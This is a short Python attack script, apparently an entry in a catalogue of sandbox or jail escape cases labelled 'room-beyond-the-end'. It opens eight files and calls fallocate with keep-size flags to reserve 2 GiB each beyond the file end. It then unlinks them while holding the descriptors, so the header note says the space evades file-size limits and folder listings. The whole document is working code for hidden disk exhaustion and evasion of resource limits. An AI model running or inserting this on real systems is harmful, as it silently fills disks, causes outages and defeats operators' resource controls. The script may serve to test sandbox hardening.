# attack: jail/room-beyond-the-end
# oracle: runaway
# imports: os, ctypes
# tools:
# source: own
# note: blocks reserved beyond the end of a removed file: no limit of a file's size counts them, and no look at the folder sees them
import ctypes
import os

held = []
libc = ctypes.CDLL(None)
for n in range(8):
    held.append(os.open(f"r{n}", os.O_RDWR | os.O_CREAT))
    for mode in (1, 1 | 16, 1 | 64):  # KEEP_SIZE, with ZERO_RANGE, with UNSHARE_RANGE
        libc.fallocate(held[-1], mode, ctypes.c_long(0), ctypes.c_long(2 << 30))
    os.unlink(f"r{n}")
